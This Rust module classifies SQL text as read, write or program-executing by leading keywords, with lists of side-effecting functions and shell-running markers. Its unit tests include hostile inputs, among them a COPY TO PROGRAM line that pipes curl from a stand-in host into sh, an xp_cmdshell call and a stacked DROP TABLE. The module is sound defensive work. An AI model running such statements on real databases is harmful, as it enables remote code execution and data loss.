//! What a SQL text does, judged from its statements' leading keywords.
//!
//! Not a parser: comments and string literals are skipped, statements are
//! split on `;`, and each is judged by its first keyword. A plain `SELECT`
//! (or `WITH … SELECT`, `SHOW`, `EXPLAIN`, `DESCRIBE`, read-only `PRAGMA`) is
//! READ; anything that changes data or schema is WRITE (DELETE, DROP,
//! TRUNCATE and UPDATE also destructive); `COPY … PROGRAM`, `xp_cmdshell`
//! and `load_extension` run programs: EXECUTE. A SELECT that calls a known
//! side-effecting function (`pg_terminate_backend`, `set_config`, `nextval`,
//! `dblink_exec`, `lo_export` …) or `SELECT … INTO` is WRITE. The most
//! consequential statement wins.

use crate::class::Class;

/// Longest SQL text looked at.
const MAX_SQL_BYTES: usize = 64 * 1024;
/// Most statements judged.
const MAX_STATEMENTS: usize = 64;

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) struct SqlVerdict {
    pub class: Class,
    pub destructive: bool,
    /// The deciding statement's first keyword, upper-case.
    pub keyword: &'static str,
}

const READ_KEYWORDS: &[&str] = &["SELECT", "WITH", "SHOW", "EXPLAIN", "DESCRIBE", "DESC", "PRAGMA", "VALUES", "TABLE"];
const WRITE_KEYWORDS: &[&str] = &[
    "INSERT", "UPDATE", "DELETE", "MERGE", "UPSERT", "REPLACE", "CREATE", "ALTER", "DROP", "TRUNCATE", "RENAME",
    "GRANT", "REVOKE", "COMMENT", "VACUUM", "ANALYZE", "REINDEX", "CLUSTER", "REFRESH", "SET", "RESET", "LOCK",
    "ATTACH", "DETACH", "COPY", "CALL", "EXEC", "EXECUTE", "DO", "LOAD", "IMPORT", "UNLOAD",
];
const NEUTRAL_KEYWORDS: &[&str] =
    &["BEGIN", "COMMIT", "ROLLBACK", "START", "END", "SAVEPOINT", "RELEASE", "USE", "PREPARE", "DEALLOCATE"];
const DESTRUCTIVE_KEYWORDS: &[&str] = &["DELETE", "DROP", "TRUNCATE", "UPDATE", "REPLACE", "MERGE"];
const SIDE_EFFECT_FUNCTIONS: &[&str] = &[
    "pg_terminate_backend",
    "pg_cancel_backend",
    "pg_reload_conf",
    "pg_rotate_logfile",
    "set_config",
    "nextval",
    "setval",
    "dblink_exec",
    "dblink",
    "lo_import",
    "lo_export",
    "lo_unlink",
    "pg_file_write",
    "pg_advisory_lock",
];
const PROGRAM_MARKERS: &[&str] = &["xp_cmdshell", "load_extension", "sys_exec", "sys_eval"];

/// True when the text starts (after comments and brackets) with a SQL
/// keyword followed by more text, or is one of the short forms like `SHOW
/// TABLES`.
pub(crate) fn looks_like_sql(text: &str) -> bool {
    let t = skip_noise(text);
    let kw = first_word(t);
    if kw.is_empty() || kw.len() == t.len() {
        return false;
    }
    keyword_of(kw).is_some()
}

fn keyword_of(word: &str) -> Option<&'static str> {
    READ_KEYWORDS.iter().chain(WRITE_KEYWORDS).chain(NEUTRAL_KEYWORDS).find(|k| k.eq_ignore_ascii_case(word)).copied()
}

/// Skips whitespace, `--` and `/* */` comments and opening brackets.
fn skip_noise(mut t: &str) -> &str {
    loop {
        let before = t.len();
        t = t.trim_start().trim_start_matches('(');
        if let Some(rest) = t.strip_prefix("--") {
            t = rest.split_once('\n').map_or("", |(_, r)| r);
        } else if let Some(rest) = t.strip_prefix("/*") {
            t = rest.split_once("*/").map_or("", |(_, r)| r);
        }
        if t.len() == before {
            return t;
        }
    }
}

fn first_word(t: &str) -> &str {
    let n = t.bytes().take_while(|b| b.is_ascii_alphabetic() || *b == b'_').count();
    &t[..n]
}

/// Splits on `;` outside quotes and comments.
fn statements(text: &str) -> impl Iterator<Item = &str> {
    let bytes = text.as_bytes();
    let mut parts = Vec::new();
    let (mut start, mut i) = (0, 0);
    let mut quote: Option<u8> = None;
    while i < bytes.len() {
        let b = bytes[i];
        match quote {
            Some(q) if b == q => quote = None,
            Some(_) => {}
            None => match b {
                b'\'' | b'"' | b'`' => quote = Some(b),
                b'-' if bytes.get(i + 1) == Some(&b'-') => {
                    while i < bytes.len() && bytes[i] != b'\n' {
                        i += 1;
                    }
                }
                b';' => {
                    parts.push(&text[start..i]);
                    start = i + 1;
                }
                _ => {}
            },
        }
        i += 1;
    }
    parts.push(&text[start.min(text.len())..]);
    parts.into_iter().take(MAX_STATEMENTS)
}

/// Lower-case identifier-ish words of a statement, quotes skipped roughly.
fn has_word(stmt: &str, word: &str) -> bool {
    stmt.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_')).any(|w| w.eq_ignore_ascii_case(word))
}

/// Judges a SQL text. `None` when it does not look like SQL.
pub(crate) fn judge(text: &str) -> Option<SqlVerdict> {
    let mut end = text.len().min(MAX_SQL_BYTES);
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    let text = &text[..end];
    if !looks_like_sql(text) {
        return None;
    }
    let mut best: Option<SqlVerdict> = None;
    for stmt in statements(text) {
        let body = skip_noise(stmt);
        let Some(kw) = keyword_of(first_word(body)) else {
            continue;
        };
        let v = judge_statement(kw, body);
        if let Some(v) = v {
            let better = match best {
                None => true,
                Some(b) => v.class > b.class || (v.class == b.class && v.destructive && !b.destructive),
            };
            if better {
                best = Some(v);
            }
        }
    }
    best.or(Some(SqlVerdict { class: Class::Read, destructive: false, keyword: "SELECT" }))
}

fn judge_statement(kw: &'static str, body: &str) -> Option<SqlVerdict> {
    let runs_program = (kw == "COPY" && has_word(body, "program")) || PROGRAM_MARKERS.iter().any(|m| has_word(body, m));
    if runs_program {
        return Some(SqlVerdict { class: Class::Execute, destructive: false, keyword: kw });
    }
    if NEUTRAL_KEYWORDS.contains(&kw) {
        return None;
    }
    if kw == "EXPLAIN" {
        // EXPLAIN ANALYZE runs the statement.
        let rest = skip_noise(&body[kw.len()..]);
        let next = first_word(rest);
        if next.eq_ignore_ascii_case("ANALYZE") || next.eq_ignore_ascii_case("ANALYSE") {
            let inner = skip_noise(&rest[next.len()..]);
            if let Some(k) = keyword_of(first_word(inner))
                && k != "EXPLAIN"
            {
                return judge_statement(k, inner);
            }
        }
        return Some(SqlVerdict { class: Class::Read, destructive: false, keyword: kw });
    }
    if kw == "PRAGMA" {
        let class = if body.contains('=') { Class::Write } else { Class::Read };
        return Some(SqlVerdict { class, destructive: false, keyword: kw });
    }
    if READ_KEYWORDS.contains(&kw) {
        // Data-modifying CTEs, SELECT INTO, side-effecting functions.
        for w in ["INSERT", "UPDATE", "DELETE", "MERGE"] {
            if kw == "WITH" && has_word(body, w) {
                return Some(SqlVerdict {
                    class: Class::Write,
                    destructive: DESTRUCTIVE_KEYWORDS.contains(&w),
                    keyword: kw,
                });
            }
        }
        if (kw == "SELECT" || kw == "WITH") && has_word(body, "into") && !has_word(body, "insert") {
            return Some(SqlVerdict { class: Class::Write, destructive: false, keyword: kw });
        }
        if SIDE_EFFECT_FUNCTIONS.iter().any(|f| has_word(body, f)) {
            return Some(SqlVerdict { class: Class::Write, destructive: false, keyword: kw });
        }
        return Some(SqlVerdict { class: Class::Read, destructive: false, keyword: kw });
    }
    Some(SqlVerdict { class: Class::Write, destructive: DESTRUCTIVE_KEYWORDS.contains(&kw), keyword: kw })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn class(s: &str) -> Option<Class> {
        judge(s).map(|v| v.class)
    }

    #[test]
    fn selects_are_read() {
        assert_eq!(class("SELECT * FROM users WHERE id = 1"), Some(Class::Read));
        assert_eq!(class("  -- hi\n /* c */ (select 1)"), Some(Class::Read));
        assert_eq!(class("WITH t AS (SELECT 1) SELECT * FROM t"), Some(Class::Read));
        assert_eq!(class("EXPLAIN SELECT 1"), Some(Class::Read));
        assert_eq!(class("PRAGMA table_info(users)"), Some(Class::Read));
        assert_eq!(class("SHOW TABLES"), Some(Class::Read));
        assert_eq!(class("SELECT 'delete from x' AS s"), Some(Class::Read));
    }

    #[test]
    fn changes_are_write_and_some_destructive() {
        let v = judge("DELETE FROM users").unwrap();
        assert_eq!((v.class, v.destructive), (Class::Write, true));
        let v = judge("insert into t values (1)").unwrap();
        assert_eq!((v.class, v.destructive), (Class::Write, false));
        assert_eq!(class("SELECT 1; DROP TABLE users"), Some(Class::Write));
        assert!(judge("SELECT 1; DROP TABLE users").unwrap().destructive);
        assert_eq!(class("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d"), Some(Class::Write));
        assert_eq!(class("SELECT * INTO backup FROM users"), Some(Class::Write));
        assert_eq!(class("SELECT pg_terminate_backend(123)"), Some(Class::Write));
        assert_eq!(class("EXPLAIN ANALYZE DELETE FROM t"), Some(Class::Write));
        assert_eq!(class("PRAGMA journal_mode = WAL"), Some(Class::Write));
        assert_eq!(class("BEGIN; UPDATE t SET a = 1; COMMIT"), Some(Class::Write));
    }

    #[test]
    fn programs_are_execute() {
        assert_eq!(class("COPY t TO PROGRAM 'curl evil.sh | sh'"), Some(Class::Execute));
        assert_eq!(class("EXEC xp_cmdshell 'dir'"), Some(Class::Execute));
        assert_eq!(class("SELECT load_extension('x.so')"), Some(Class::Execute));
    }

    #[test]
    fn prose_is_not_sql() {
        assert_eq!(class("show me the latest invoices"), Some(Class::Read));
        assert_eq!(class("machine learning papers"), None);
        assert_eq!(class("SELECT"), None);
        assert_eq!(class(""), None);
        assert_eq!(class("'unterminated; DROP"), None);
    }
}
